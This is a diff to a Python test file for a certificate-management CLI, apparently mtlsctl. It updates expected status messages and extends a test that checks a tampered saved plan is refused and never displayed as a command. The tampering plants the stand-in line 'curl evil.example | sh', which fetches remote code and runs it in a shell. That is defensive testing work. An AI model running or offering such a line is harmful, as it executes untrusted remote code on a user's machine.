@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -17,6 +18,7 @@ from tests.emulator.test_workers import certificate, multipart
 from tests.stores.test_cloudflare_live import add_hyperdrive
 from tests.support.cli import MTLS, Project, Result, make_project
 from tests.support.emulated import TOKEN, client_of, make_state
+from tests.support.reports import sealed
 from tests.support.worlds import issued
 
 CLOUDFLARE = MTLS.replace("[certificates", '[store]\nkind = "cloudflare"\n\n[certificates', 1)
@@ -101,7 +103,7 @@ def test_check_live_makes_every_report_read_live_workers(account: Account, comma
     result = account.run(*command.split())
     assert account.paths[0] == "/workers/scripts/checkout/deployments"
     assert "/hyperdrive/configs" in account.paths
-    assert "Not checked" not in result.out
+    assert " --live)" not in result.out
     result = account.run(*command.split(), "--no-live")
     assert account.paths == []
     assert f"(mtlsctl {command} --live)" in result.out
@@ -146,7 +148,7 @@ def test_a_permission_that_is_missing_is_said_and_is_no_failure(account: Account
     account.state.access.tokens[TOKEN] = Token(frozenset(Permission) - both)
     result = account.run("status", "--live")
     assert result.code == 0
-    assert "Not checked: not everything else that may use a certificate could be read: the list of" in result.out
+    assert "Not checked: some other users of certificates could not be read: the list of" in result.out
     assert "Hyperdrive Read" in result.out
     (found,) = account.run("status", "--live", "--format", "json").json["not_checked"]
     assert (found["area"], "command" in found) == ("other-users", False)
@@ -191,10 +193,13 @@ def test_apply_shows_what_it_did_not_check_and_names_no_command(account: Account
 
 
 def test_a_saved_plan_that_was_changed_names_no_command_of_its_own(account: Account) -> None:
-    """What stands in a file is never told as what to run."""
+    """What a file says is never shown as what to run: an edited one is refused, and the hash alone proves nothing."""
     account.project.run("plan", "--out", "plan.json")
     text = account.project.read("plan.json")
     assert '"next_command": "mtlsctl plan --live"' in text
-    account.project.write("plan.json", text.replace("mtlsctl plan --live", "curl evil.example | sh"))
+    edited = text.replace("mtlsctl plan --live", "curl evil.example | sh")
+    account.project.write("plan.json", edited)
+    assert account.run("show", "plan.json").code == 4
+    account.project.write("plan.json", sealed(json.loads(edited)))
     shown = account.run("show", "plan.json")
     assert (shown.code, "evil" in shown.out) == (0, False)
